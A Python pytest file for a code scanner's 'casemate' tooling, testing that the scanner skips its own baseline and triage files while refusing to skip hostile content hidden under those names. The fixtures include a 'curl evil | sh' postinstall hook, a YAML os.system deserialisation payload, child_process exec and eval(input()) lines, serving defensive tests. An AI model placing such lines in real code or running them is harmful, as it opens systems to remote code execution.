from __future__ import annotations

import hashlib
import json
from typing import TYPE_CHECKING

import pytest

from scanner.core.coverage import Skip, SkippedPath
from scanner.core.problem import Problem, Stage
from scanner.core.report import SCHEMAS
from scanner.pipeline.own import without_own_data
from scanner.ports.source import Snapshot, SourceFile
from scanner.stores.decisions import write_decisions

if TYPE_CHECKING:
    from pathlib import Path

BASELINE = json.dumps({"schema": SCHEMAS[0], "findings": []})
DECISIONS = write_decisions(())


def opened(root: Path, **texts: str) -> Snapshot:
    files = []
    for name, text in texts.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        files.append(SourceFile(name, "", len(text), 1, hashlib.sha256(text.encode()).hexdigest()))
    return Snapshot(root, tuple(sorted(files)))


@pytest.mark.parametrize("folder", [".casemate", "services/shop/.casemate"])
def test_what_casemate_keeps_beside_the_code_is_left_out_and_said_to_be(tmp_path: Path, folder: str) -> None:
    names = {f"{folder}/baseline.json": BASELINE, f"{folder}/triage.yaml": DECISIONS, "app.py": "x = 1\n"}
    snapshot = without_own_data(opened(tmp_path, **names))
    assert [file.path for file in snapshot.files] == ["app.py"]
    assert [(item.path, item.reason) for item in snapshot.skipped] == [
        (f"{folder}/baseline.json", Skip.GENERATED),
        (f"{folder}/triage.yaml", Skip.GENERATED),
    ]


HIDING = {
    "code under the name of data": (".casemate/baseline.json", "require('child_process').exec(process.argv[2])\n"),
    "somebody else's JSON": (".casemate/baseline.json", '{"scripts": {"postinstall": "curl evil | sh"}}'),
    "a list that says it is ours": (".casemate/baseline.json", f'["{SCHEMAS[0]}"]'),
    "code behind the data": (".casemate/baseline.json", f"{BASELINE}\nprocess.exit()\n"),
    "deep nesting": (".casemate/baseline.json", "[" * 200_000),
    "a workflow under the name of decisions": (".casemate/triage.yaml", "on: push\njobs: {}\n"),
    "more than decisions": (".casemate/triage.yaml", f"{DECISIONS}on: push\n"),
    "an object of Python's": (".casemate/triage.yaml", "version: 1\ndecisions: !!python/object/apply:os.system [id]\n"),
    "two documents": (".casemate/triage.yaml", f"{DECISIONS}---\non: push\n"),
    "another name": (".casemate/tools.py", "eval(input())\n"),
    "another ending": (".casemate/baseline.json.py", BASELINE),
    "another folder": ("casemate/baseline.json", BASELINE),
    "a folder that only ends so": ("x.casemate/baseline.json", BASELINE),
    "a folder below": (".casemate/baseline.json/app.py", "eval(input())\n"),
}


@pytest.mark.parametrize("way", list(HIDING))
def test_nothing_hides_behind_our_names(tmp_path: Path, way: str) -> None:
    name, text = HIDING[way]
    snapshot = opened(tmp_path, **{name: text})
    assert without_own_data(snapshot) == snapshot


def test_a_link_is_not_followed_to_data_of_ours(tmp_path: Path) -> None:
    outside = tmp_path / "outside.json"
    outside.write_text(BASELINE, encoding="utf-8")
    snapshot = opened(tmp_path / "root", **{".casemate/baseline.json": ""})
    (tmp_path / "root/.casemate/baseline.json").unlink()
    (tmp_path / "root/.casemate/baseline.json").symlink_to(outside)
    assert without_own_data(snapshot) == snapshot


def test_a_baseline_that_is_too_large_for_code_does_not_make_a_change_incomplete(tmp_path: Path) -> None:
    name = ".casemate/baseline.json"
    told = Problem(Stage.COLLECT, name, "not looked at, and it is this change that makes it so: too large")
    large = Snapshot(opened(tmp_path, **{name: BASELINE}).root, (), (SkippedPath(name, Skip.TOO_LARGE),), (told,))
    snapshot = without_own_data(large)
    assert ([item.reason for item in snapshot.skipped], snapshot.problems) == ([Skip.GENERATED], ())
    (tmp_path / name).write_text("x" * 100, encoding="utf-8")
    assert without_own_data(large) == large
